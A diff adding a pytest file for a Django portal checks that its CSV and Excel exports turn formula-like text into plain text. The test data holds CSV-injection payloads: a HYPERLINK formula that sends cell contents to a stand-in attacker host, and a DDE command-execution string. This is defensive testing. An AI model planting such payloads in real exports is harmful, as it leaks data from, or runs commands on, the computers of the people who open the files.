@@ -1,0 +1,117 @@
+"""Every CSV and Excel file the portal hands out keeps a formula-like text as text.
+
+Each export gets a `=HYPERLINK(...)` (and friends) where a user or an administrator can type
+it; the cell must arrive with the apostrophe that makes a spreadsheet read it as text, and an
+Excel cell must be a string, never a formula.
+"""
+import csv
+import io
+
+import openpyxl
+import pytest
+from django.core.files.uploadedfile import SimpleUploadedFile
+from django.urls import reverse
+
+from ideas.models import Municipality
+from partners.models import Partner
+from portal.spreadsheets import spreadsheet_cell, spreadsheet_value
+from tests.factories import (
+    CriterionFactory,
+    IdeaFactory,
+    PartnerFactory,
+    ThemeFactory,
+    municipality,
+)
+from tests.triage.test_meeting import _ready_idea
+
+pytestmark = pytest.mark.django_db
+LINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Klicka här")'
+
+
+@pytest.mark.parametrize("text", [
+    LINK, "+46 70 123", "-2+3+cmd|' /C calc'!A0", "@SUM(A1:A9)", "   =1+1", "\t=1+1",
+    " \t @SUM(1)", "\tnågot", "\rnågot", "\n -1",
+])
+def test_a_text_a_spreadsheet_would_run_gets_an_apostrophe(text):
+    assert spreadsheet_cell(text) == "'" + text
+    assert spreadsheet_value(spreadsheet_cell(text)) == text
+
+
+@pytest.mark.parametrize("value", ["Fiber till byn", "e-post: a@b.se", "1-2 dagar", "", "'citat",
+                                   5, -3, 2.5])
+def test_ordinary_values_stay_as_they_are(value):
+    assert spreadsheet_cell(value) == value
+    assert spreadsheet_value(value) == value
+
+
+def csv_rows(response) -> list[list[str]]:
+    return list(csv.reader(io.StringIO(b"".join(response).decode("utf-8-sig"))))
+
+
+def xlsx_rows(response) -> list[list]:
+    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(response))).active
+    for row in sheet.iter_rows():
+        for cell in row:
+            assert cell.data_type != "f", f"{cell.coordinate} is a formula: {cell.value}"
+    return [[cell.value for cell in row] for row in sheet.iter_rows()]
+
+
+def test_the_partner_registry_export_keeps_formulas_as_text_and_imports_back_unchanged(
+    coordinator_client
+):
+    partner = PartnerFactory(slug="formel", name="@Föreningen", description=LINK,
+                             phone="+46 580 123 45")
+
+    for file_format, read in (("csv", csv_rows), ("xlsx", xlsx_rows)):
+        response = coordinator_client.get(reverse("partners:export", args=[file_format]))
+        header, row = read(response)[:2]
+        values = dict(zip(header, row, strict=False))
+        assert values["description"] == "'" + LINK, file_format
+        assert values["name"] == "'@Föreningen"
+        assert values["phone"] == "'+46 580 123 45"
+
+    exported = b"".join(coordinator_client.get(reverse("partners:export", args=["csv"])))
+    preview = coordinator_client.post(reverse("partners:import"),
+                                      {"file": SimpleUploadedFile("again.csv", exported)})
+    coordinator_client.post(reverse("partners:import_confirm"),
+                            {"token": preview.context["token"]})
+    partner = Partner.objects.get(pk=partner.pk)
+    assert (partner.description, partner.name, partner.phone) == (
+        LINK, "@Föreningen", "+46 580 123 45")
+
+
+def test_the_dashboard_export_keeps_formulas_as_text(coordinator_client):
+    IdeaFactory(title="Bybuss", description=LINK, need="  -1+1", submitter_name="@Anna")
+
+    for file_format, read in (("csv", csv_rows), ("xlsx", xlsx_rows)):
+        response = coordinator_client.get(reverse("triage:export", args=[file_format]),
+                                          {"personal": "1"})
+        header, row = read(response)[:2]
+        values = dict(zip(header, row, strict=False))
+        assert values["Idén"] == "'" + LINK, file_format
+        assert values["Behovet eller problemet"] == "'  -1+1"
+        assert values["Namn"] == "'@Anna"
+        assert values["Titel"] == "Bybuss"
+
+
+def test_the_agenda_export_keeps_formulas_as_text_in_titles_and_criteria(coordinator_client):
+    CriterionFactory(name="=Kriterium()", weight=1)
+    idea = _ready_idea(LINK)
+
+    header, row = csv_rows(coordinator_client.get(reverse("triage:meeting_csv")))[:2]
+
+    assert row[0] == idea.reference
+    assert row[1] == "'" + LINK
+    assert "'=Kriterium()" in header
+
+
+def test_the_open_data_export_keeps_formulas_as_text(committee_client):
+    place = municipality("1880")
+    Municipality.objects.filter(pk=place.pk).update(name=LINK)  # an administrator's edit
+    for _ in range(3):
+        IdeaFactory(municipality=place, themes=[ThemeFactory(slug="formel")])
+
+    rows = csv_rows(committee_client.get(reverse("triage:open_data_csv")))
+
+    assert any(row[2] == "'" + LINK for row in rows[1:])
+    assert all(not cell.startswith("=") for row in rows for cell in row)
